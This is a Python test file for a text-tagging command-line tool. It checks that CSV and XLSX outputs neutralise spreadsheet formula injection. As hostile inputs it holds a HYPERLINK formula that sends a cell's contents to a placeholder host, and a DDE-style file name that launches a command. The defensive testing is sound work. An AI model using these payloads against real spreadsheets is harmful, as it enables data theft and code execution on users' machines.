"""Hostile inputs and careless runs that must not hurt the user: formulas, bombs, locks, output = input.

Each case runs the CLI as a user would (``run_cli`` is ``policytag`` in this
process; a few start the real script) and checks what the user meets: the exit
code, one line naming the file, and that nothing of theirs was destroyed.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from test_robustness import records, run_cli

from policytag.write import FORMULA_TRIGGERS, restore_cell, spreadsheet_cell

# ----------------------------------------------------------------------------- formula injection
# Report text, a file name and a pre-cut id that a spreadsheet would run as formulas.
FORMULA = '=HYPERLINK("http://e.example/?"&A1,"点击")'
HOSTILE_REPORT = (f"{FORMULA}\n\n+1+2 常委会开展执法检查，听取审议专项工作报告。\n\n"
                  "-2+3 审议通过条例草案，开展立法调研。\n\n@SUM(1,2) 常委会召开会议12次。\n")


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_TRIGGERS


def _csv_cells(path: Path, delimiter: str = ",") -> list[str]:
    import csv

    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh, delimiter=delimiter) for cell in row]


def _xlsx_cells(path: Path) -> list[object]:
    """Every cell value; fails if any cell is a formula (``<f>`` in the sheet XML)."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name), f"{path}:{name} holds a formula"
    book = load_workbook(path)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture()
def hostile_dir(tmp_path: Path) -> Path:
    src = tmp_path / "in"
    src.mkdir()
    (src / "=cmd|' calc'!A0.txt").write_text(HOSTILE_REPORT, encoding="utf-8")
    return src


def test_spreadsheet_cell_neutralizes_what_a_spreadsheet_would_run_and_can_be_undone() -> None:
    for text in (FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "'=1", "''+1"):
        safe = spreadsheet_cell(text)
        assert safe.startswith("'") and restore_cell(safe) == text
    for harmless in ("执法检查", "'引号", "a=b", "", " =1"):
        assert spreadsheet_cell(harmless) == harmless == restore_cell(harmless)
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell(FORMULA, raw=True) == FORMULA


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tag_tables_never_hold_a_live_formula(fmt: str, hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / f"tagged.{fmt}"
    code, _, stderr = run_cli("tag", str(hostile_dir), "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    assert any(str(c).startswith(f"'{FORMULA}") for c in cells)  # the text is there, behind an apostrophe
    assert any(str(c).startswith("'=cmd|") for c in cells)  # the file name too
    assert not [c for c in cells if _formula_like(c)]


def test_precut_ids_are_neutralized_and_jsonl_parquet_keep_the_text(tmp_path: Path) -> None:
    src = tmp_path / "p.jsonl"
    src.write_text(json.dumps({"id": "=1+1", "text": "-常委会开展执法检查。"}, ensure_ascii=False) + "\n",
                   encoding="utf-8")
    outs = {fmt: tmp_path / f"t.{fmt}" for fmt in ("csv", "xlsx", "jsonl", "parquet")}
    for out in outs.values():
        code, _, stderr = run_cli("tag", str(src), "--input-format", "jsonl", "-o", str(out))
        assert code == 0, stderr
    assert {"'=1+1", "'-常委会开展执法检查。"} <= set(_csv_cells(outs["csv"]))
    assert {"'=1+1", "'-常委会开展执法检查。"} <= set(_xlsx_cells(outs["xlsx"]))
    row = records(outs["jsonl"])[0]
    assert (row["id"], row["text"]) == ("=1+1", "-常委会开展执法检查。")  # data, not a spreadsheet
    import pandas as pd

    back = pd.read_parquet(outs["parquet"]).iloc[0]
    assert (back["id"], back["text"]) == ("=1+1", "-常委会开展执法检查。")


def test_raw_cells_writes_text_as_it_is_but_never_as_a_formula(hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw.xlsx"
    code, _, stderr = run_cli("tag", str(hostile_dir), "-o", str(out), "--raw-cells")
    assert code == 0, stderr
    cells = _xlsx_cells(out)  # still no <f>: xlsx text cells are always strings
    assert any(str(c).startswith(FORMULA) for c in cells)
    out = tmp_path / "raw.csv"
    run_cli("tag", str(hostile_dir), "-o", str(out), "--raw-cells")
    assert any(c.startswith(FORMULA) for c in _csv_cells(out))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_stats_tables_are_neutralized_and_read_back_exactly(fmt: str, hostile_dir: Path, tmp_path: Path) -> None:
    tagged = tmp_path / f"tagged.{fmt}"
    assert run_cli("tag", str(hostile_dir), "-o", str(tagged))[0] == 0
    out = tmp_path / f"stats.{fmt}"
    code, _, stderr = run_cli("stats", str(tagged), "-o", str(out), "--by", "doc")
    assert code == 0, stderr
    files = sorted(tmp_path.glob(f"stats*.{fmt}"))
    cells = [c for f in files for c in (_csv_cells(f) if fmt == "csv" else _xlsx_cells(f))]
    assert any(str(c).startswith("'=cmd|") for c in cells)  # doc_id from the file name
    assert not [c for c in cells if _formula_like(c)]
    from policytag.stats import load_tagged

    frame = load_tagged([str(tagged)])  # our own table back: the apostrophes are gone again
    assert frame["text"].str.startswith(FORMULA).any() and frame["doc_id"].str.startswith("=cmd|").all()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_indicators_table_is_neutralized(fmt: str, hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / f"ind.{fmt}"
    code, _, stderr = run_cli("indicators", str(hostile_dir), "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    assert any(str(c).startswith("'=cmd|") for c in cells)
    assert not [c for c in cells if _formula_like(c)]


def test_kwic_tsv_is_neutralized(hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "kwic.tsv"
    code, _, stderr = run_cli("lexicon", "kwic", "执法检查", str(hostile_dir), "--width", "200", "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out, delimiter="\t")
    assert any(c.startswith(f"'{FORMULA}") for c in cells)
    assert not [c for c in cells if _formula_like(c)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_suggest_table_is_neutralized_and_trains_on_the_original_text(fmt: str, tmp_path: Path) -> None:
    src = tmp_path / "p.jsonl"
    rows = [{"id": f"={i}", "text": f"-第{i}次常委会开展执法检查，审议条例草案。"} for i in range(4)]
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / f"s.{fmt}"
    code, _, stderr = run_cli("suggest", str(src), "-n", "4", "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    assert "'=0" in cells and not [c for c in cells if _formula_like(c)]
    from policytag.write import read_spreadsheet

    back = read_spreadsheet(out, dtype=str, keep_default_na=False)
    assert set(back["text"]) == {r["text"] for r in rows}
